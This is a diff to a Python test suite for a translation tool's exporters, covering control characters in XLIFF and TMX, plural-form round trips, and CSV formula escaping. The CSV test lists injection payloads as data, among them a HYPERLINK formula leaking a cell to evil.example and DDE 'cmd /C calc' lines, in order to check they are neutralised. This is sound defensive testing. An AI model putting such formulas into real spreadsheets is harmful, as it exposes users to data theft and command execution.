@@ -130,12 +130,46 @@ def test_carriage_return_survives_xml() -> None:
     assert unit.source == "line\nbreak\r\nand\ttab"
 
 
-def test_a_character_xml_cannot_hold_is_a_clear_error() -> None:
+def test_control_characters_travel_as_inline_codes(xliff_schema: etree.XMLSchema) -> None:
+    """A form feed (accepted by `init`) cannot be written in XML 1.0, not even as `&#xC;`:
+    XLIFF 2.0 has <cp hex="000C"/>, XLIFF 1.2 a placeholder <x ctype="x-codepoint-000C"/>
+    (valid against the strict schema), TMX a <ph type="x-codepoint-000C"/>."""
     catalog = sample_catalog()
-    catalog.units[0].target = "bell\x07"
-    with pytest.raises(InputError, match="U\\+0007"):
-        write_xliff(catalog)
+    catalog.units[0].source = "第一\f頁\f。"
+    catalog.units[0].target = "Page\fone."
+    data12 = write_xliff(catalog)
+    assert xliff_schema.validate(etree.fromstring(data12)), xliff_schema.error_log
+    assert b'<x id="cp1" ctype="x-codepoint-000C"/>' in data12 and b"\x0c" not in data12
+    data20 = write_xliff2(catalog)
+    assert b'<cp hex="000C"/>' in data20 and b"\x0c" not in data20
+    data_tmx = write_tmx(catalog)
+    assert b'type="x-codepoint-000C"' in data_tmx and b"\x0c" not in data_tmx
+    for data in (data12, data20):
+        etree.fromstring(data)  # well-formed
+        assert [fields(u) for u in read_xliff(data, "x").catalog.units] == \
+            [fields(u) for u in catalog.active]
+    unit = read_tmx(data_tmx, "x.tmx").catalog.units[0]
+    assert (unit.source, unit.target) == ("第一\f頁\f。", "Page\fone.")
+
+
+def test_a_character_xml_cannot_hold_outside_the_text_is_a_clear_error() -> None:
+    """In a note or an attribute there is no inline code: a clear error naming the unit."""
+    catalog = sample_catalog()
+    catalog.units[0].comments = ["bell\x07"]
+    for write in (write_xliff, write_xliff2, write_tmx):
+        with pytest.raises(InputError, match="unit a1: character U\\+0007"):
+            write(catalog)
     assert check_chars("fine\t\n\r", "x") == "fine\t\n\r"
+
+
+def test_foreign_character_codes_are_checked() -> None:
+    data = ('<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="zh" '
+            'trgLang="en"><file id="f"><unit id="u"><segment><source>a<cp hex="{}"/></source>'
+            "</segment></unit></file></xliff>")
+    assert read_xliff(data.format("1F600").encode(), "x").catalog.units[0].source == "a😀"
+    for bad in ("0", "D800", "110000", "xyz", ""):
+        with pytest.raises(InputError, match="invalid character code"):
+            read_xliff(data.format(bad).encode(), "x")
 
 
 # --- TMX ------------------------------------------------------------------------------------
@@ -194,6 +228,29 @@ def test_csv_rows_read_back() -> None:
     with_obsolete = list(csv.reader(io.StringIO(write_csv(catalog, True).decode("utf-8-sig"),
                                                 newline="")))
     assert with_obsolete[-1] == ["old", "舊句子。", "Old sentence.", "obsolete"]
+
+
+@pytest.mark.parametrize("cell, written", [
+    ('=HYPERLINK("http://evil.example/?"&A1,"Click")',
+     '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+    ("- item", "'- item"),
+    ("-5°C", "-5°C"),  # a minus before a plain number is text, kept as it is
+    ("-3.5 % to -4 %", "-3.5 % to -4 %"),
+    ("-", "-"),
+    ("a = b + c", "a = b + c"),
+    ("＝全形", "＝全形"),
+])
+def test_csv_defuses_formulas(cell: str, written: str) -> None:
+    """OWASP's CSV-injection advice: a cell a spreadsheet would run gets a leading quote."""
+    catalog = Catalog([Unit("f1", cell, cell, State.TRANSLATED)], "zh-Hant", "en")
+    rows = list(csv.reader(io.StringIO(write_csv(catalog).decode("utf-8-sig"), newline="")))
+    assert rows[1] == ["f1", written, written, "translated"]
 
 
 class _Collect(HTMLParser):
@@ -336,6 +393,9 @@ def test_txt_big5_source_with_simplified_target_falls_back_to_utf8() -> None:
 _xml_char = st.characters(codec="utf-8").filter(
     lambda c: c in "\t\n\r" or not (c < " " or c in "\ufffe\uffff"))
 _text = st.text(_xml_char, min_size=1, max_size=30)
+# Sentences may hold control characters XML cannot (a form feed): inline codes carry them.
+_content = st.text(_xml_char | st.sampled_from("\x0b\x0c\x01\x1f\ufffe"), min_size=1,
+                   max_size=30)
 _line = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")),
                 min_size=1, max_size=20).map(str.strip).filter(bool)
 
@@ -347,9 +407,9 @@ def catalogs(draw: st.DrawFn) -> Catalog:
     units = []
     for uid in ids:
         state = draw(st.sampled_from(State))
-        target = draw(_text) if state is not State.UNTRANSLATED else ""
+        target = draw(_content) if state is not State.UNTRANSLATED else ""
         units.append(Unit(
-            id=uid, source=draw(_text), target=target, state=state,
+            id=uid, source=draw(_content), target=target, state=state,
             comments=draw(st.lists(_line, max_size=2)),
             auto_comments=draw(st.lists(_line, max_size=2)),
             locations=draw(st.lists(st.tuples(st.from_regex(r"[a-z]{1,8}/[a-z]{1,8}\.txt",
@@ -443,13 +503,18 @@ msgstr "{other}"
     ("zh_Hans", "nplurals=1; plural=0;", 'msgstr[0] "%d 个文件"', "其他"),
     ("en", "nplurals=2; plural=(n != 1);", 'msgstr[0] ""\nmsgstr[1] ""', ""),
 ])
+@pytest.mark.parametrize("version", ["1.2", "2.0"])
 def test_plural_entries_survive_xliff(xliff_schema: etree.XMLSchema, lang: str, forms: str,
-                                      msgstr: str, other: str) -> None:
+                                      msgstr: str, other: str, version: str) -> None:
     from workbench.formats.importing import merge_import
 
     catalog = parse_po(PLURAL_PO.format(lang=lang, forms=forms, msgstr=msgstr, other=other))
-    data = write_xliff(catalog)
-    assert xliff_schema.validate(etree.fromstring(data)), xliff_schema.error_log
+    if version == "1.2":
+        data = write_xliff(catalog)
+        assert xliff_schema.validate(etree.fromstring(data)), xliff_schema.error_log
+    else:  # 2.0: a <group type="x-gettext:plurals">, one unit per form
+        data = write_xliff2(catalog)
+        assert b'type="x-gettext:plurals"' in data
     back = read_xliff(data, "x").catalog
     plural = [(u.source_plural, u.target_plurals) for u in back.units]
     assert [fields(u) for u in back.units] == [fields(u) for u in catalog.units]
@@ -460,3 +525,34 @@ def test_plural_entries_survive_xliff(xliff_schema: etree.XMLSchema, lang: str, 
     assert all(not u.target and not any(u.target_plurals) for u in merged.units)
     merge_import(merged, back)
     assert format_po(merged) == format_po(catalog)
+
+
+@pytest.mark.parametrize("writer", [write_xliff, write_xliff2, write_tmx])
+def test_translated_plural_entry_round_trips_every_form(writer) -> None:  # type: ignore[no-untyped-def]
+    """QA r3b: an xliff2 export imported back left `msgstr[1] ""` in a translated unit."""
+    from workbench.formats.importing import merge_import
+
+    po = PLURAL_PO.format(lang="de", forms="nplurals=2; plural=(n != 1);", other="anderes",
+                          msgstr='msgstr[0] "eine Datei"\nmsgstr[1] "%d Dateien"'
+                          ).replace("#, fuzzy\n", "")
+    catalog = parse_po(po)
+    assert catalog.units[0].state is State.TRANSLATED
+    empty = parse_po(po.replace('"eine Datei"', '""').replace('"%d Dateien"', '""')
+                     .replace('"anderes"', '""'))
+    back = (read_tmx if writer is write_tmx else read_xliff)(writer(catalog), "x").catalog
+    report = merge_import(empty, back)
+    assert (empty.units[0].target, empty.units[0].target_plurals, empty.units[0].state) == (
+        "eine Datei", ["%d Dateien"], State.TRANSLATED)
+    assert report.filled == 2 and not report.not_found
+
+
+def test_a_file_without_the_plural_forms_leaves_the_entry_fuzzy() -> None:
+    """Another tool's memory holds the singular only: the entry is not done."""
+    from workbench.formats.importing import merge_import
+
+    empty = parse_po(PLURAL_PO.format(lang="de", forms="nplurals=2; plural=(n != 1);",
+                                      other="", msgstr='msgstr[0] ""\nmsgstr[1] ""'))
+    singular_only = Catalog([Unit("", "一個檔案", "eine Datei", State.TRANSLATED)], "zh-Hant", "de")
+    merge_import(empty, singular_only)
+    unit = empty.units[0]
+    assert (unit.target, unit.target_plurals, unit.state) == ("eine Datei", [""], State.FUZZY)
